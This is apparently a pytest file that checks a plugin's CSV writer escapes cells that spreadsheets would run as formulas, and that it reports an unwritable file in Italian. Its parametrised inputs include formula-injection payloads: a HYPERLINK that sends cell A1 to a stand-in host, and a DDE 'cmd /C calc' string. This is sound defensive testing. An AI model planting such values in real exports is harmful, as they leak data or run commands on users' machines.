"""CSV files a planner opens in a spreadsheet: a text from a pack never runs as a formula there."""

import csv

import pytest

from remix_plugin.core.base.csv_files import write_csv


@pytest.mark.parametrize(
    "text,written",
    [
        ('=HYPERLINK("http://x.invalid/?"&A1,"Apri")', '\'=HYPERLINK("http://x.invalid/?"&A1,"Apri")'),
        ("+39 02 7740 1", "'+39 02 7740 1"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("-1.234,5", "-1.234,5"),  # a negative number stays a number
        ("Piazza = verde", "Piazza = verde"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(tmp_path, text, written):
    path = write_csv(tmp_path / "t.csv", ["titolo", "importo"], [[text, -12.5]])
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    assert rows[1] == [written, "-12.5"]


def test_an_unwritable_file_is_named_in_italian(tmp_path):
    from remix_plugin.core.base.errors import RemixError

    (tmp_path / "cartella.csv").mkdir()
    with pytest.raises(RemixError, match="Impossibile scrivere il file .*cartella.csv"):
        write_csv(tmp_path / "cartella.csv", ["a"], [[1]])
